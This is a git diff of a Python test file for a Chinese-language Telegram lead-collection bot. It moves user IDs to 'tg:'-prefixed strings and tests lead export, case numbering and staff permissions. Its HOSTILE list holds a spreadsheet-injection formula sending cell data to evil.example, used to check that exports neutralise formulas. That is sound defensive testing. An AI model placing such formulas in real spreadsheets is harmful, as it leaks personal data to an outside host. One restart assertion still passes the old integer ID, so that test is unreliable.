@@ -14,8 +14,15 @@ from openpyxl import load_workbook
 from bot import export
 from bot.privacy import mask_personal
 from bot.storage import Storage
+from conversations.eligibility import load_rules
+from conversations.flow import load_flow
 from tests.conftest import ADMIN_ID, STAFF_CHAT_ID, RunningBot
 from tests.fake_bot_api import FakeBotApi
+from tests.pack import FLOWS, NOTICE, RULES
+
+_RULES = load_rules("eligibility", RULES)
+_FLOW = load_flow(_RULES.flow, FLOWS, NOTICE)
+SHEET = export.LeadSheet(_FLOW, _RULES.formula.direction, tuple(_RULES.export))
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&D3&C3,"详情")',
@@ -31,10 +38,10 @@ HOSTILE = [
 
 
 def _lead(storage: Storage, company: str, name: str, phone: str) -> None:
-    storage.touch_user(1, "u", None, "zh")
+    storage.touch_user("tg:1", "u", None, "zh")
     storage.save_lead(
         {
-            "user_id": 1,
+            "user_id": "tg:1",
             "company": company,
             "contact_name": name,
             "phone": phone,
@@ -55,7 +62,7 @@ def storage() -> Storage:
 @pytest.mark.parametrize("value", HOSTILE)
 def test_xlsx_writes_every_typed_value_as_text(storage: Storage, value: str):
     _lead(storage, value, value, value)
-    data, count = export.export_leads(storage, "xlsx")
+    data, count = export.export_leads(storage, SHEET, "xlsx")
     sheet = load_workbook(io.BytesIO(data)).active
     row = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
     expected = value.replace("\r", "\n")  # XML reads a bare carriage return back as a line feed
@@ -68,7 +75,7 @@ def test_xlsx_writes_every_typed_value_as_text(storage: Storage, value: str):
 @pytest.mark.parametrize("value", HOSTILE)
 def test_csv_neutralises_a_leading_formula_sign(storage: Storage, value: str):
     _lead(storage, value, value, value)
-    data, _ = export.export_leads(storage, "csv")
+    data, _ = export.export_leads(storage, SHEET, "csv")
     row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
     for cell in row[1:4]:
         if value[0] in "=+-@\t\r":
@@ -79,7 +86,7 @@ def test_csv_neutralises_a_leading_formula_sign(storage: Storage, value: str):
 
 def test_xlsx_drops_control_characters_instead_of_failing(storage: Storage):
     _lead(storage, "韶关\x01机械\x1f", "李四", "13812345678")
-    data, _ = export.export_leads(storage, "xlsx")
+    data, _ = export.export_leads(storage, SHEET, "xlsx")
     assert list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))[1][1] == "韶关机械"
 
 
@@ -90,22 +97,22 @@ def test_unanswered_questions_hide_phones_and_emails():
 
 
 def test_case_numbers_are_never_reused_after_forget(storage: Storage):
-    storage.touch_user(1, "a", None, "zh")
-    storage.touch_user(2, "b", None, "zh")
-    first = storage.open_case(1, "zh")
-    storage.forget_user(1)
-    second = storage.open_case(2, "zh")
+    storage.touch_user("tg:1", "a", None, "zh")
+    storage.touch_user("tg:2", "b", None, "zh")
+    first = storage.open_case("tg:1", "zh")
+    storage.forget_user("tg:1")
+    second = storage.open_case("tg:2", "zh")
     assert second > first
-    storage.forget_user(2)
-    assert storage.open_case(2, "zh") > second
+    storage.forget_user("tg:2")
+    assert storage.open_case("tg:2", "zh") > second
 
 
 def test_case_numbers_continue_after_a_restart(tmp_path):
     path = tmp_path / "bot.db"
     storage = Storage(path)
-    storage.touch_user(1, "a", None, "zh")
-    first = storage.open_case(1, "zh")
-    storage.forget_user(1)
+    storage.touch_user("tg:1", "a", None, "zh")
+    first = storage.open_case("tg:1", "zh")
+    storage.forget_user("tg:1")
     storage.close()
     assert Storage(path).open_case(1, "zh") > first
 
@@ -136,7 +143,7 @@ async def test_a_non_admin_in_the_staff_group_cannot_reply_claim_or_close(
         await member.tap(label, chat_id=STAFF_CHAT_ID)
         assert "仅限管理员" in (await staff.next_reply()).text
     await ann.expect_no_reply(wait=0.5)
-    case = running_bot.application.bot_data["assistant"].storage.open_case_of(401)
+    case = running_bot.application.bot_data["assistant"].storage.open_case_of("tg:401")
     assert case is not None and case["status"] == "open" and case["claimed_by"] is None
 
     # an admin's reply to the claimed note (any message of the thread) reaches the user
@@ -201,7 +208,7 @@ async def test_a_stale_button_of_a_forgotten_case_never_acts_on_another(
     await admin.tap_data(old_header.message_id, close_new or "", chat_id=STAFF_CHAT_ID)
     assert "已不存在" in (await staff.next_reply()).text
     await bob.expect_no_reply(wait=0.5)
-    assert running_bot.application.bot_data["assistant"].storage.open_case_of(406)["status"] == "open"
+    assert running_bot.application.bot_data["assistant"].storage.open_case_of("tg:406")["status"] == "open"
 
     # a late staff reply in the deleted case's thread says why it went nowhere
     await admin.send_in(STAFF_CHAT_ID, "还在吗", reply_to_message_id=old_header.message_id)
